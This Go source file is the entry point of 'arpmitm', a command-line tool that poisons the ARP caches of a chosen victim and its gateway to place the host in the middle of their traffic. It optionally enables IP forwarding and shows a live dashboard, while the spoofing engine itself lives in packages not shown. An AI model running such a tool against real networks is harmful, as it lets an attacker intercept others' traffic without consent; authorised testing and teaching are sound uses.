package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"syscall"

	"arpmitm/internal/discovery"
	"arpmitm/internal/link"
	"arpmitm/internal/spoofer"
	"arpmitm/internal/tui"

	tea "github.com/charmbracelet/bubbletea"
	log "github.com/sirupsen/logrus"
	"github.com/spf13/cobra"
	"golang.org/x/sync/errgroup"
)

func main() {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	err := newRootCommand().ExecuteContext(ctx)
	stop()
	if err != nil {
		log.WithError(err).Fatal("arpmitm failed")
	}
}

func newRootCommand() *cobra.Command {
	cfg := &Config{}
	cmd := &cobra.Command{
		Use:   "arpmitm",
		Short: "Poison the ARP caches of a victim and its gateway until interrupted",
		Long: "arpmitm resolves the hardware addresses of a victim and its default gateway,\n" +
			"then keeps telling each of them that the other lives at this host's MAC address.\n" +
			"On Ctrl+C both ARP caches are restored to their real values.",
		Args:          cobra.NoArgs,
		SilenceUsage:  true,
		SilenceErrors: true,
		PreRunE: func(cmd *cobra.Command, args []string) error {
			return cfg.Validate()
		},
		RunE: func(cmd *cobra.Command, args []string) error {
			return run(cmd.Context(), cfg, cmd.InOrStdin(), cmd.OutOrStdout())
		},
	}
	cfg.bindFlags(cmd.Flags())
	return cmd
}

func run(ctx context.Context, cfg *Config, stdin io.Reader, stdout io.Writer) error {
	// The victim prompt and the relay read the same input.
	input := bufio.NewReader(stdin)

	log.SetFormatter(&log.TextFormatter{FullTimestamp: true})
	if cfg.Verbose {
		log.SetLevel(log.DebugLevel)
	}

	interfaceName := cfg.Interface
	if interfaceName == "" {
		iface, err := discovery.DefaultInterface()
		if err != nil {
			return err
		}
		interfaceName = iface.Name
	}

	var gateways discovery.GatewayProvider = discovery.RouteGateway{}
	if cfg.Gateway != nil {
		gateways = discovery.StaticGateway(cfg.Gateway)
	}
	gatewayIP, err := gateways.Gateway()
	if err != nil {
		return err
	}

	var victims discovery.VictimProvider = discovery.Prompt{In: input, Out: stdout}
	if cfg.Target != nil {
		victims = discovery.StaticVictim(cfg.Target)
	}
	victimIP, err := victims.Victim(ctx)
	if err != nil {
		return err
	}

	l, err := link.Open(interfaceName, link.DefaultFilter)
	if err != nil {
		return err
	}
	defer l.Close()

	entry := log.WithField("interface", interfaceName)
	entry.WithFields(log.Fields{"ip": l.Local.IP, "mac": l.Local.MAC}).Info("Interface opened")

	if cfg.Forward {
		fwd := spoofer.NewForwarding(entry)
		if err := fwd.Enable(); err != nil {
			return err
		}
		defer func() {
			if err := fwd.Restore(); err != nil {
				entry.WithError(err).Warn("Could not restore IP forwarding")
			}
		}()
	}

	engineCfg := cfg.EngineConfig()
	engineCfg.RelayInput = input

	if cfg.TUI {
		return runDashboard(ctx, l, engineCfg, entry, interfaceName, victimIP, gatewayIP)
	}
	engine := spoofer.NewEngine(l, l.Local, engineCfg, entry)
	return engine.Run(ctx, victimIP, gatewayIP)
}

// runDashboard runs the engine next to the dashboard. Quitting the dashboard
// interrupts the engine, which restores both hosts before returning.
func runDashboard(ctx context.Context, l *link.Link, cfg spoofer.Config, entry *log.Entry, interfaceName string, victimIP, gatewayIP net.IP) error {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	var program *tea.Program
	engine := spoofer.NewEngine(l, l.Local, cfg, entry, spoofer.WithStateHook(func(s spoofer.State) {
		if program != nil {
			program.Send(tui.StateMsg(s))
		}
	}))
	program = tea.NewProgram(tui.NewSessionModel(engine, interfaceName), tea.WithAltScreen(), tea.WithContext(ctx))

	// The dashboard owns the terminal until it exits.
	entry.Logger.SetOutput(io.Discard)

	g, gctx := errgroup.WithContext(ctx)
	g.Go(func() error {
		return engine.Run(gctx, victimIP, gatewayIP)
	})
	g.Go(func() error {
		_, err := program.Run()
		entry.Logger.SetOutput(os.Stderr)
		cancel()
		if errors.Is(err, tea.ErrProgramKilled) || errors.Is(err, context.Canceled) {
			return nil
		}
		if err != nil {
			return fmt.Errorf("dashboard: %w", err)
		}
		return nil
	})
	return g.Wait()
}
